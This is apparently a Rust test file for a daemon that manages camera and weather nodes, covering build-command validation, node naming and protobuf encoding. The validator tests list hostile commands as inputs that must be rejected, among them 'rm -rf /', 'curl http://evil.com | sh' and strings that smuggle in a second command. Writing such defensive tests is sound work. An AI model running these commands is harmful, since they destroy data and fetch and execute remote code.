use bubbaloop::daemon::building::validate_build_command;
use bubbaloop::daemon::commands::JOURNALCTL_PATH;
use bubbaloop::daemon::health::extract_health_node_name;
use bubbaloop::daemon::node::{BuildState, BuildStatus, CachedNode};
use bubbaloop::daemon::registry::NodeManifest;
use bubbaloop::schemas::{HealthStatus, NodeList, NodeState, NodeStatus};
use prost::bytes::{Buf, BufMut};
use prost::encoding::{self, DecodeContext, WireType};
use prost::{DecodeError, Message};

#[test]
fn test_validate_build_command_allowed_prefixes() {
    assert!(validate_build_command("cargo build --release").is_ok());
    assert!(validate_build_command("pixi run build").is_ok());
    assert!(validate_build_command("npm run build").is_ok());
    assert!(validate_build_command("make all").is_ok());
    assert!(validate_build_command("python setup.py build").is_ok());
    assert!(validate_build_command("pip install .").is_ok());
}

#[test]
fn test_validate_build_command_rejects_unknown_prefix() {
    assert!(validate_build_command("rm -rf /").is_err());
    assert!(validate_build_command("curl http://evil.com | sh").is_err());
    assert!(validate_build_command("wget http://evil.com").is_err());
}

#[test]
fn test_validate_build_command_rejects_make_without_space() {
    // "make" without a trailing space should not match arbitrary commands
    // like "makefile-exploit" or "makeover"
    assert!(validate_build_command("makefile-exploit").is_err());
    assert!(validate_build_command("makeover something").is_err());
}

#[test]
fn test_validate_build_command_rejects_newlines() {
    assert!(validate_build_command("cargo build\nrm -rf /").is_err());
    assert!(validate_build_command("cargo build\r\nrm -rf /").is_err());
}

#[test]
fn test_validate_build_command_rejects_shell_metacharacters() {
    assert!(validate_build_command("cargo build; rm -rf /").is_err());
    assert!(validate_build_command("cargo build && evil").is_err());
    assert!(validate_build_command("cargo build | evil").is_err());
    assert!(validate_build_command("cargo build > /etc/passwd").is_err());
    assert!(validate_build_command("cargo build $(evil)").is_err());
    assert!(validate_build_command("cargo build `evil`").is_err());
}

#[test]
fn test_extract_health_node_name_legacy() {
    assert_eq!(
        extract_health_node_name("bubbaloop/nodes/my-node/health"),
        Some("my-node".to_string())
    );
}

#[test]
fn test_extract_health_node_name_scoped() {
    assert_eq!(
        extract_health_node_name("bubbaloop/scope/machine1/health/my-node"),
        Some("my-node".to_string())
    );
}

#[test]
fn test_extract_health_node_name_invalid() {
    assert_eq!(extract_health_node_name("invalid/path"), None);
    assert_eq!(extract_health_node_name(""), None);
    assert_eq!(extract_health_node_name("other/nodes/x/health"), None);
}

#[test]
fn test_cached_node_base_node_with_override() {
    let node = CachedNode {
        path: "/path/to/rtsp-camera".to_string(),
        manifest: Some(NodeManifest {
            name: "rtsp-camera".to_string(),
            version: "0.1.0".to_string(),
            description: "RTSP camera node".to_string(),
            node_type: "rust".to_string(),
            ..Default::default()
        }),
        status: NodeStatus::Stopped,
        installed: false,
        autostart_enabled: false,
        is_built: false,
        build_state: BuildState::default(),
        last_updated_ms: 0,
        health_status: HealthStatus::Unknown,
        last_health_check_ms: 0,
        name_override: Some("rtsp-camera-terrace".to_string()),
        config_override: None,
    };

    let proto = node.to_proto("machine1", "host1", &[]);
    assert_eq!(proto.name, "rtsp-camera-terrace");
    assert_eq!(proto.base_node, "rtsp-camera");
}

#[test]
fn test_cached_node_base_node_without_override() {
    let node = CachedNode {
        path: "/path/to/openmeteo".to_string(),
        manifest: Some(NodeManifest {
            name: "openmeteo".to_string(),
            version: "0.1.0".to_string(),
            description: "Weather node".to_string(),
            node_type: "rust".to_string(),
            ..Default::default()
        }),
        status: NodeStatus::Running,
        installed: true,
        autostart_enabled: false,
        is_built: true,
        build_state: BuildState::default(),
        last_updated_ms: 0,
        health_status: HealthStatus::Unknown,
        last_health_check_ms: 0,
        name_override: None,
        config_override: None,
    };

    let proto = node.to_proto("machine1", "host1", &[]);
    assert_eq!(proto.name, "openmeteo");
    assert_eq!(proto.base_node, "");
}

/// A node's state on the wire.
#[derive(Debug, Default, Clone, PartialEq)]
struct WireState {
    name: String,
    base_node: String,
}

impl Message for WireState {
    fn encode_raw(&self, buf: &mut impl BufMut) {
        encoding::string::encode(1, &self.name, buf);
        encoding::string::encode(2, &self.base_node, buf);
    }

    fn merge_field(
        &mut self,
        tag: u32,
        wire_type: WireType,
        buf: &mut impl Buf,
        ctx: DecodeContext,
    ) -> Result<(), DecodeError> {
        match tag {
            1 => encoding::string::merge(wire_type, &mut self.name, buf, ctx),
            2 => encoding::string::merge(wire_type, &mut self.base_node, buf, ctx),
            _ => encoding::skip_field(wire_type, tag, buf, ctx),
        }
    }

    fn encoded_len(&self) -> usize {
        encoding::string::encoded_len(1, &self.name)
            + encoding::string::encoded_len(2, &self.base_node)
    }

    fn clear(&mut self) {
        *self = WireState::default();
    }
}

/// A list of nodes on the wire.
#[derive(Debug, Default, Clone, PartialEq)]
struct WireList {
    nodes: Vec<WireState>,
    timestamp_ms: i64,
    machine_id: String,
}

impl Message for WireList {
    fn encode_raw(&self, buf: &mut impl BufMut) {
        encoding::message::encode_repeated(1, &self.nodes, buf);
        encoding::int64::encode(2, &self.timestamp_ms, buf);
        encoding::string::encode(3, &self.machine_id, buf);
    }

    fn merge_field(
        &mut self,
        tag: u32,
        wire_type: WireType,
        buf: &mut impl Buf,
        ctx: DecodeContext,
    ) -> Result<(), DecodeError> {
        match tag {
            1 => encoding::message::merge_repeated(wire_type, &mut self.nodes, buf, ctx),
            2 => encoding::int64::merge(wire_type, &mut self.timestamp_ms, buf, ctx),
            3 => encoding::string::merge(wire_type, &mut self.machine_id, buf, ctx),
            _ => encoding::skip_field(wire_type, tag, buf, ctx),
        }
    }

    fn encoded_len(&self) -> usize {
        encoding::message::encoded_len_repeated(1, &self.nodes)
            + encoding::int64::encoded_len(2, &self.timestamp_ms)
            + encoding::string::encoded_len(3, &self.machine_id)
    }

    fn clear(&mut self) {
        *self = WireList::default();
    }
}

fn on_wire(list: &NodeList) -> WireList {
    WireList {
        nodes: list
            .nodes
            .iter()
            .map(|n: &NodeState| WireState {
                name: n.name.clone(),
                base_node: n.base_node.clone(),
            })
            .collect(),
        timestamp_ms: list.timestamp_ms,
        machine_id: list.machine_id.clone(),
    }
}

/// The same rtsp-camera node registered 3 times with different name_overrides (terrace,
/// garage, entrance), and a plain node without override.
#[test]
fn test_multi_instance_cameras_base_node_tracking() {
    let camera_manifest = NodeManifest {
        name: "rtsp-camera".to_string(),
        version: "0.2.0".to_string(),
        description: "RTSP camera node".to_string(),
        node_type: "rust".to_string(),
        build: Some("cargo build --release".to_string()),
        command: Some("./target/release/cameras_node".to_string()),
        ..Default::default()
    };

    let instances = vec![
        (
            "rtsp-camera-terrace",
            Some("rtsp-camera-terrace"),
            Some("/etc/bubbaloop/terrace.yaml"),
        ),
        (
            "rtsp-camera-garage",
            Some("rtsp-camera-garage"),
            Some("/etc/bubbaloop/garage.yaml"),
        ),
        ("rtsp-camera-entrance", Some("rtsp-camera-entrance"), None),
    ];

    let mut protos = Vec::new();

    for (expected_name, name_override, config_override) in &instances {
        let node = CachedNode {
            path: "/opt/nodes/rtsp-camera".to_string(),
            manifest: Some(camera_manifest.clone()),
            status: NodeStatus::Running,
            installed: true,
            autostart_enabled: true,
            is_built: true,
            build_state: BuildState::default(),
            last_updated_ms: 1700000000000,
            health_status: HealthStatus::Healthy,
            last_health_check_ms: 1700000000000,
            name_override: name_override.map(|s: &str| s.to_string()),
            config_override: config_override.map(|s: &str| s.to_string()),
        };

        assert_eq!(node.effective_name(), *expected_name);

        let proto = node.to_proto("jetson_1", "jetson-1.local", &["10.0.0.42".to_string()]);
        protos.push(proto);
    }

    // All instances should report "rtsp-camera" as their base_node
    for (i, proto) in protos.iter().enumerate() {
        let (expected_name, _, _) = &instances[i];
        assert_eq!(proto.name, *expected_name, "instance {} name mismatch", i);
        assert_eq!(
            proto.base_node, "rtsp-camera",
            "instance {} should have base_node='rtsp-camera'",
            i
        );
        assert_eq!(proto.version, "0.2.0");
        assert_eq!(proto.machine_id, "jetson_1");
    }

    // Now verify a plain node (no override) has empty base_node
    let plain_node = CachedNode {
        path: "/opt/nodes/openmeteo".to_string(),
        manifest: Some(NodeManifest {
            name: "openmeteo".to_string(),
            version: "0.1.0".to_string(),
            description: "Weather".to_string(),
            node_type: "rust".to_string(),
            ..Default::default()
        }),
        status: NodeStatus::Running,
        installed: true,
        autostart_enabled: false,
        is_built: true,
        build_state: BuildState::default(),
        last_updated_ms: 0,
        health_status: HealthStatus::Unknown,
        last_health_check_ms: 0,
        name_override: None,
        config_override: None,
    };

    let plain_proto = plain_node.to_proto("jetson_1", "jetson-1.local", &[]);
    assert_eq!(plain_proto.name, "openmeteo");
    assert_eq!(plain_proto.base_node, "");

    // Build a NodeList containing all 4 nodes and verify it round-trips
    let node_list = NodeList {
        nodes: {
            let mut v = protos.clone();
            v.push(plain_proto.clone());
            v
        },
        timestamp_ms: 1700000000000,
        machine_id: "jetson_1".to_string(),
    };

    assert_eq!(node_list.nodes.len(), 4);

    // Encode to protobuf bytes and decode back
    let mut buf = Vec::new();
    Message::encode(&on_wire(&node_list), &mut buf).unwrap();
    let decoded = WireList::decode(&buf[..]).unwrap();

    assert_eq!(decoded.nodes.len(), 4);
    // Instances should preserve base_node through encode/decode
    assert_eq!(decoded.nodes[0].name, "rtsp-camera-terrace");
    assert_eq!(decoded.nodes[0].base_node, "rtsp-camera");
    assert_eq!(decoded.nodes[1].name, "rtsp-camera-garage");
    assert_eq!(decoded.nodes[1].base_node, "rtsp-camera");
    assert_eq!(decoded.nodes[2].name, "rtsp-camera-entrance");
    assert_eq!(decoded.nodes[2].base_node, "rtsp-camera");
    // Plain node should have empty base_node
    assert_eq!(decoded.nodes[3].name, "openmeteo");
    assert_eq!(decoded.nodes[3].base_node, "");
}

#[test]
fn test_build_state_default() {
    let state = BuildState::default();
    assert_eq!(state.status, BuildStatus::Idle);
    assert!(state.output.is_empty());
}

#[test]
fn test_cached_node_effective_name_with_override() {
    let node = CachedNode {
        path: "/path/to/rtsp-camera".to_string(),
        manifest: Some(NodeManifest {
            name: "rtsp-camera".to_string(),
            version: "0.1.0".to_string(),
            description: "RTSP camera node".to_string(),
            node_type: "rust".to_string(),
            ..Default::default()
        }),
        status: NodeStatus::Stopped,
        installed: false,
        autostart_enabled: false,
        is_built: false,
        build_state: BuildState::default(),
        last_updated_ms: 0,
        health_status: HealthStatus::Unknown,
        last_health_check_ms: 0,
        name_override: Some("rtsp-camera-terrace".to_string()),
        config_override: None,
    };
    assert_eq!(node.effective_name(), "rtsp-camera-terrace");
}

#[test]
fn test_cached_node_effective_name_without_override() {
    let node = CachedNode {
        path: "/path/to/openmeteo".to_string(),
        manifest: Some(NodeManifest {
            name: "openmeteo".to_string(),
            version: "0.1.0".to_string(),
            description: "Weather".to_string(),
            node_type: "rust".to_string(),
            ..Default::default()
        }),
        status: NodeStatus::Running,
        installed: true,
        autostart_enabled: false,
        is_built: true,
        build_state: BuildState::default(),
        last_updated_ms: 0,
        health_status: HealthStatus::Unknown,
        last_health_check_ms: 0,
        name_override: None,
        config_override: None,
    };
    assert_eq!(node.effective_name(), "openmeteo");
}

#[test]
fn test_cached_node_effective_name_no_manifest() {
    let node = CachedNode {
        path: "/path/to/unknown".to_string(),
        manifest: None,
        status: NodeStatus::Stopped,
        installed: false,
        autostart_enabled: false,
        is_built: false,
        build_state: BuildState::default(),
        last_updated_ms: 0,
        health_status: HealthStatus::Unknown,
        last_health_check_ms: 0,
        name_override: None,
        config_override: None,
    };
    assert_eq!(node.effective_name(), "unknown");
}

#[test]
fn test_journalctl_uses_absolute_path() {
    assert!(JOURNALCTL_PATH.starts_with('/'));
}

#[test]
fn node_without_manifest_reports_defaults() {
    let node = CachedNode {
        path: "/path/to/unknown".to_string(),
        manifest: None,
        status: NodeStatus::NotInstalled,
        installed: false,
        autostart_enabled: false,
        is_built: false,
        build_state: BuildState::default(),
        last_updated_ms: 7,
        health_status: HealthStatus::Unhealthy,
        last_health_check_ms: 5,
        name_override: Some("cam".to_string()),
        config_override: Some("/etc/cam.yaml".to_string()),
    };
    let state = node.to_proto("m", "h", &["10.0.0.1".to_string()]);
    assert_eq!(state.name, "cam");
    assert_eq!(state.version, "0.0.0");
    assert_eq!(state.description, "");
    assert_eq!(state.node_type, "unknown");
    assert_eq!(state.base_node, "");
    assert_eq!(state.config_override, "/etc/cam.yaml");
    assert_eq!(state.status, NodeStatus::NotInstalled.to_code());
    assert_eq!(state.health_status, HealthStatus::Unhealthy.to_code());
    assert_eq!(state.last_updated_ms, 7);
    assert_eq!(state.last_health_check_ms, 5);
    assert_eq!(state.machine_hostname, "h");
    assert_eq!(state.machine_ips, vec!["10.0.0.1".to_string()]);
}
